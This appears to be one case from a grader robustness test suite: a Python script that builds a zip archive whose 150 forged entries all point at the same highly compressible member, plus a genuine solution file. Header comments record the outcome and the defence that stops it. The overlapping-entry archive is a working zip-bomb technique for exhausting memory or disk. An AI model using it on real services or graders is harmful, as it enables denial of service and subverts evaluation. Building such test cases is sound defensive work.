# attack: members that are one and the same piece of the file
# outcome: finished
# stops: archives are read in memory
# earns: full
# made: task1_cnn.zip
import io
import zipfile
from pathlib import Path

SOLUTION = (Path(__file__).parents[3] / 'solutions' / 'task1_cnn.py').read_bytes()


def make():
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr('task1_cnn.py', SOLUTION)
        archive.writestr('a.py', b'x = 1\n' * 500_000)
        first = archive.filelist[-1]
        for i in range(150):
            info = zipfile.ZipInfo(f'b{i}.py')
            for name in ('header_offset', 'compress_size', 'file_size', 'CRC', 'compress_type'):
                setattr(info, name, getattr(first, name))
            archive.filelist.append(info)
    return file.getvalue()
